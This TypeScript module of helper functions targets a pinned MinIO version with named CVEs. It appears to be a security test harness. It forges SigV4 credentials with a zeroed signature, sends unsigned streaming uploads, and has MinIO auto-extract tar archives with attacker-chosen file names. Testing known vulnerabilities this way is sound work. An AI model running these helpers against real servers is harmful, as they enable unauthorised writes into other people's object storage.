import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { promisify } from 'node:util';

const run = promisify(execFile);

/** The pinned MinIO does not check the signature of this body format (CVE-2026-40344, CVE-2026-41145). */
const unsignedTrailer = 'STREAMING-UNSIGNED-PAYLOAD-TRAILER';

/** Makes MinIO treat the body as an archive and store each of its files. */
export const unpacking = { 'x-amz-meta-snowball-auto-extract': 'true' };

/** Credentials of an unsigned request: the access key, which is part of every signed link. */
export function forgedCredentials(accessKey: string) {
  const credential = `${accessKey}/${new Date().toISOString().slice(0, 10).replaceAll('-', '')}/us-east-1/s3/aws4_request`;
  const signature = `AWS4-HMAC-SHA256 Credential=${credential}, SignedHeaders=host, Signature=${'0'.repeat(64)}`;
  return {
    inQuery: { query: `X-Amz-Credential=${encodeURIComponent(credential)}`, headers: {} },
    inHeader: { query: '', headers: { authorization: signature } },
  };
}

/** Sends an unsigned body, chunked as its headers say, or raw for archives. */
export function sendUnsigned(
  url: string,
  body: Buffer,
  headers: Record<string, string>,
  { isChunked = true } = {},
): Promise<Response> {
  const chunks = Buffer.concat([
    Buffer.from(`${body.length.toString(16)}\r\n`),
    body,
    Buffer.from('\r\n0\r\n\r\n\r\n'),
  ]);
  return fetch(url, {
    method: 'PUT',
    body: new Uint8Array(isChunked ? chunks : body),
    headers: {
      'x-amz-content-sha256': unsignedTrailer,
      'x-amz-date': new Date().toISOString().replace(/[-:]|\.\d+/g, ''),
      'x-amz-decoded-content-length': String(body.length),
      ...headers,
    },
  });
}

/** A tar archive with one file of that name. */
export async function archiveWith(name: string): Promise<Buffer> {
  const folder = await mkdtemp(join(tmpdir(), 'archive-'));
  try {
    await mkdir(join(folder, dirname(name)), { recursive: true });
    await writeFile(join(folder, name), 'forged');
    const { stdout } = await run('tar', ['--create', '--directory', folder, name], { encoding: 'buffer' });
    return stdout;
  } finally {
    await rm(folder, { recursive: true });
  }
}
